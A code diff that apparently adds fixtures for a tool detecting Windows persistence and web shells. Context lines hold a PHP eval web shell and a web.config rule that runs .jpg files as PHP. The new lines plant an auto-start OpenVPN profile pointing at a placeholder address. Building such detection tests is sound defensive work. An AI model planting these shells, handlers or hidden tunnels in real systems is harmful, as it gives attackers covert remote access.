@@ -286,3 +286,19 @@ page('page-that-runs-commands', 'A page of ASP.NET runs for whoever asks for it.
 page('page-of-another-folder', 'physicalPath says where the site is.', r'www\a\x.php', '<?php eval($_POST["c"]);', r'%SystemDrive%\www')
 page('picture-that-is-a-page', 'A handler gives pictures to an interpreter.', r'inetpub\wwwroot\img\web.config', '<configuration><system.webServer><handlers>'
      r'<add name="x" path="*.jpg" verb="*" scriptProcessor="C:\php\php-cgi.exe"/></handlers></system.webServer></configuration>', place='web.config')
+
+# --- a tunnel that waits for its profile ---
+OPENVPN = r'C:\Program Files\OpenVPN'
+
+
+def openvpn(d):
+    """OpenVPN as its installer leaves it."""
+    for name in ('openvpn', 'openvpnserv', 'openvpnserv2', 'openvpn-gui'):
+        d.honest(rf'{OPENVPN}\bin\{name}.exe')
+    d.software('OpenVPN', 'config_dir', SZ, rf'{OPENVPN}\config')
+    d.service('OpenVPNServiceInteractive', rf'"{OPENVPN}\bin\openvpnserv.exe"')
+    d.service('OpenVPNService', rf'"{OPENVPN}\bin\openvpnserv2.exe"', 3)
+
+
+change.row('tunnel-with-its-profile', 'The service opens each profile of the folder.', 'WIN-PERSIST-003', 'OpenVPNServiceInteractive', lambda d: (
+    openvpn(d), d.put(rf'{OPENVPN}\config-auto\corp.ovpn', 'client\nremote 203.0.113.9 1194\n')))
